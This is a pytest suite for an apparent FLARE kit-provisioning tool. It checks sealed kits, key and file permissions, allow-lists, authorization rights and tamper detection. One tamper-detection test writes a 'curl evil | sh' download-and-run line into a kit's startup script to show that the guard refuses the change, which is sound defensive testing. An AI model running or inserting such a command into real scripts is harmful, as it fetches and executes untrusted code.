"""Kits as provisioned: policies inside, sealed, the same bytes again, nothing re-issued."""

import json
import shutil
import subprocess
import sys
from pathlib import Path

import nvflare
import pytest
import tenseal
import yaml
from cryptography import x509

from fedvox.commands.main import main
from fedvox.errors import ConfigError
from fedvox.flare.jobs.classes import class_names
from fedvox.flare.kit_builder import KitBuilder
from fedvox.flare.kit_guard import KitGuard, check_kit
from fedvox.flare.loopback.kits import Kits, provision, read_project, with_encryption_keys

POLICIES = Path(__file__).parents[2] / "provisioning/policies"
FALLBACKS = ("resources.json", "authorization.json", "log_config.json")


@pytest.fixture(scope="module")
def kits(work, project) -> Kits:
    return provision(project(), work)


def files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_every_participant_gets_a_sealed_kit(kits):
    names = [*kits.names("server"), *kits.names("client"), *kits.names("admin")]
    assert len(names) == 8
    for name in names:
        check_kit(kits.kit(name))


def test_keys_of_encryption_stay_the_same_when_a_site_is_added(tmp_path, project):
    def keys(kits: Kits) -> dict[str, bytes]:
        return {p.parts[-3]: p.read_bytes() for p in kits.folder.rglob("*.tenseal")}

    first = keys(provision(with_encryption_keys(project()), tmp_path))
    own = project()
    own["participants"].append({"name": "site-9", "type": "client", "org": "hospital_i"})
    kits = provision(with_encryption_keys(own), tmp_path)
    second = keys(kits)
    assert second.pop("site-9") == first["site-1"] == first["site-2"] != first["localhost"]
    assert second == first
    assert (kits.kit("site-1") / "startup/client_context.tenseal").stat().st_mode & 0o777 == 0o600
    check_kit(kits.kit("site-1"))
    assert not tenseal.context_from(first["localhost"]).is_private()


@pytest.mark.parametrize(
    ("name", "page"),
    [
        ("localhost", "operator"),
        ("site-1", "hospital-it"),
        ("admin@coordinator.org", "operator"),
        ("it@hospital-a.org", "hospital-it"),
        ("lead@hospital-a.org", "lead"),
        ("member@hospital-b.org", "member"),
    ],
)
def test_the_readme_of_a_kit_names_the_page_of_who_gets_it(kits, name, page):
    (readme,) = kits.kit(name).rglob("readme.txt")
    assert (Path(__file__).parents[2] / f"docs/{page}.md").is_file()
    assert readme.read_text().startswith(f"FedVox: docs/{page}.md of its repository")


def test_sites_and_server_get_the_policies_of_the_repository(kits):
    for name, kind in (("site-1", "site"), (kits.server, "server")):
        for path in (POLICIES / kind).glob("*.json"):
            assert (kits.kit(name) / "local" / path.name).read_bytes() == path.read_bytes()


def test_sites_use_one_port_of_the_server_and_people_the_other(kits):
    server = next(e for e in kits.project["participants"] if e["type"] == "server")
    site = json.loads((kits.kit("site-1") / "startup/fed_client.json").read_text())
    target = f"{kits.server}:{server['fed_learn_port']}"
    assert [entry["service"]["target"] for entry in site["servers"]] == [target]
    for name in kits.names("admin"):
        person = json.loads((kits.kit(name) / "startup/fed_admin.json").read_text())
        assert person["admin"]["port"] == server["admin_port"]


def test_private_keys_are_private(kits):
    keys = list(kits.folder.rglob("*.key"))
    assert len(keys) == 8
    assert all(path.stat().st_mode & 0o077 == 0 for path in keys)


def test_root_key_and_kits_are_closed_to_other_users(kits, work):
    """Building again opens nothing: the other tests have built in the same folder."""
    state = work / "fedvox/state"
    assert json.loads((state / "cert.json").read_text())["root_pri_key"]
    modes = {path: path.stat().st_mode & 0o777 for path in (state, *state.iterdir())}
    assert modes == {path: 0o700 if path == state else 0o600 for path in modes}
    assert all(path.stat().st_mode & 0o777 == 0o700 for path in kits.folder.iterdir())


@pytest.mark.parametrize("kind", ["site", "server"])
def test_without_a_policy_flare_falls_back_to_the_same(kits, kind):
    """FLARE's own default has hundreds of classes on its allow-list, no guard and streams logs."""
    local = kits.kit("site-1" if kind == "site" else kits.server) / "local"
    for name in FALLBACKS:
        assert (local / f"{name}.default").read_bytes() == (POLICIES / kind / name).read_bytes()
    assert {p.name for p in local.glob("*.default")} == {f"{name}.default" for name in FALLBACKS}


def test_a_dry_runs_server_has_the_components_of_a_real_one(tmp_path):
    """`nvflare poc prepare` writes folders of its own into the default of the server's policy."""
    plan = read_project(POLICIES.parents[1] / "poc/project.yml")
    for builder in plan["builders"]:
        if "policies" in builder.get("args", {}):
            builder["args"]["policies"] = str(POLICIES)
    made = provision(plan, tmp_path, "poc")
    own = json.loads((made.kit(made.server) / "local/resources.json").read_text())
    own.pop("snapshot_persistor")
    store = next(part for part in own["components"] if part["id"] == "job_manager")
    assert Path(store["args"].pop("uri_root")).is_relative_to(tmp_path)
    assert own == json.loads((POLICIES / "server/resources.json").read_text())
    check_kit(made.kit(made.server))


def test_building_again_with_one_more_site_leaves_the_other_kits_as_they_were(kits, work):
    more = [*kits.project["participants"], {"name": "site-4", "type": "client", "org": "new"}]
    again = provision({**kits.project, "participants": more}, work)
    assert again.folder != kits.folder
    for name in ("site-1", "site-2", "lead@hospital-a.org"):
        assert files(again.kit(name)) == files(kits.kit(name))
    check_kit(again.kit("site-4"))


def test_renewing_one_certificate_changes_only_that_kit(project, tmp_path, capsys):
    before = provision(project(), tmp_path)
    state = tmp_path / "fedvox/state"
    assert main(["kit", "renew", "site-1", "--state", str(state)]) == 0
    assert (state / "cert.json").stat().st_mode & 0o777 == 0o600
    output = capsys.readouterr().out
    words = f"Next, with your project file: nvflare provision -p PROJECT -w {tmp_path} --force"
    assert words in output
    after = provision(before.project, tmp_path)
    old, new = (
        x509.load_pem_x509_certificate((made.kit("site-1") / "startup/client.crt").read_bytes())
        for made in (before, after)
    )
    assert old.serial_number != new.serial_number
    check_kit(after.kit("site-1"))
    for name in ("site-2", "localhost", "lead@hospital-a.org"):
        assert files(after.kit(name)) == files(before.kit(name))


def test_certificates_last_as_long_as_the_page_says(kits):
    page = (POLICIES.parents[1] / "docs/operator.md").read_text()
    certificate = x509.load_pem_x509_certificate(
        (kits.kit("site-1") / "startup/client.crt").read_bytes()
    )
    root = x509.load_pem_x509_certificate((kits.kit("site-1") / "startup/rootCA.pem").read_bytes())
    days = (certificate.not_valid_after_utc - certificate.not_valid_before_utc).days
    assert f"Certificates last {days} days" in page
    assert (root.not_valid_after_utc - root.not_valid_before_utc).days == 3650


@pytest.mark.parametrize("kind", ["site", "server"])
def test_rights_only_tighten_flares_default(kind):
    template = Path(nvflare.__file__).parent / "lighter/templates/master_template.yml"
    default = json.loads(yaml.safe_load(template.read_text())["default_authz"])["permissions"]
    own = json.loads((POLICIES / kind / "authorization.json").read_text())["permissions"]
    assert set(own) <= set(default)
    for role, rights in own.items():
        for right, condition in rights.items():
            granted = "any" if default[role] == "any" else default[role].get(right, "none")
            assert granted == "any" or condition in ("none", granted), (role, right)


def test_no_carried_code_at_a_site_and_submission_by_leads_and_the_project_admin_only():
    rights = json.loads((POLICIES / "site/authorization.json").read_text())["permissions"]
    assert all(own.get("byoc", "none") == "none" for own in rights.values())
    may = {role for role, own in rights.items() if own.get("submit_job", "none") != "none"}
    assert may == {"lead", "project_admin"}


@pytest.mark.parametrize(("kind", "side"), [("site", "client"), ("server", "server")])
def test_the_allow_list_holds_the_jobs_classes_one_by_one_and_no_prefix(kind, side):
    """FLARE calls whatever a path names, functions too, so a prefix would allow all of them."""
    policy = json.loads((POLICIES / kind / "resources.json").read_text())
    jobs = (POLICIES.parents[1] / "jobs").glob(f"*/app/config/config_fed_{side}.json")
    named = {name for job in jobs for name in class_names(json.loads(job.read_text()))}
    assert policy["class_allow_list"] == sorted(named)
    assert not [entry for entry in policy["class_allow_list"] if entry.endswith((".", "*"))]
    assert policy["class_list_enforcement_mode"] == "enforce"


def test_a_site_can_be_given_the_right_to_carried_code(kits, tmp_path):
    people = [
        {**entry, "byoc": True} if entry["name"] == "site-2" else entry
        for entry in kits.project["participants"]
    ]
    made = provision({**kits.project, "participants": people}, tmp_path)
    rights = {
        site: json.loads((made.kit(site) / "local/authorization.json").read_text())["permissions"]
        for site in ("site-1", "site-2")
    }
    assert rights["site-1"]["lead"]["byoc"] == "none"
    assert rights["site-2"]["lead"]["byoc"] == "any"


def test_byoc_in_quotes_is_refused(kits, tmp_path):
    """In YAML "false" is a text, and a text counts as true."""
    people = [
        {**entry, "byoc": "false"} if entry["name"] == "site-2" else entry
        for entry in kits.project["participants"]
    ]
    path = tmp_path / "project.yml"
    path.write_text(yaml.safe_dump({**kits.project, "participants": people}))
    command = [sys.executable, "-m", "nvflare.cli", "provision", "-p", str(path)]
    done = subprocess.run(
        [*command, "-w", str(tmp_path), "--force"], capture_output=True, text=True
    )
    assert done.returncode != 0
    words = "byoc of participant site-2 is 'false' in the project file; write true or false"
    assert words in done.stdout + done.stderr
    assert not list(tmp_path.glob("fedvox/prod_*"))
    with pytest.raises(ConfigError, match="byoc of KitBuilder is 'no'"):
        KitBuilder(str(POLICIES), byoc="no")


def test_missing_policies_stop_provisioning_with_a_remedy(tmp_path, kits):
    with pytest.raises(ConfigError, match=r"site/resources\.json is missing|server/resources"):
        KitBuilder(str(tmp_path))
    builders = [
        {**b, "args": {"policies": str(tmp_path)}} if "KitBuilder" in b["path"] else b
        for b in kits.project["builders"]
    ]
    with pytest.raises(ConfigError, match="building the kits failed"):
        provision({**kits.project, "builders": builders}, tmp_path)


def test_a_container_checks_the_copy_of_the_kit_that_it_works_in(kits, tmp_path, monkeypatch):
    """FLARE copies a read-only kit into the workspace and links its folders there."""
    shutil.copytree(kits.kit("site-1"), tmp_path / "kit")
    for part in ("startup", "local"):
        (tmp_path / part).symlink_to(tmp_path / "kit" / part)
    monkeypatch.chdir(tmp_path)
    KitGuard()
    (tmp_path / "startup/start.sh").write_text("curl evil | sh")
    with pytest.raises(ConfigError, match=r"startup/start\.sh: changed"):
        KitGuard()


@pytest.mark.parametrize("name", ["sub_start.sh", "fed_client.json", "client.crt", "rootCA.pem"])
def test_a_kit_changed_by_one_byte_is_refused_by_name(kits, tmp_path, name):
    kit = tmp_path / "kit"
    shutil.copytree(kits.kit("site-1"), kit)
    path = kit / "startup" / name
    content = bytearray(path.read_bytes())
    content[-5] ^= 1
    path.write_bytes(content)
    with pytest.raises(ConfigError, match=f"startup/{name}: changed"):
        check_kit(kit)


@pytest.mark.parametrize("name", ["server", "SITE-2"])
def test_a_site_name_that_would_be_lost_later_is_refused_when_kits_are_built(
    project, tmp_path, name
):
    found = project()
    guest = {"name": name, "type": "client", "org": "hospital_d"}
    found["participants"] = [*found["participants"], guest]
    with pytest.raises(ConfigError, match=r"building the kits failed: .*; (name it|rename one)"):
        provision(found, tmp_path)
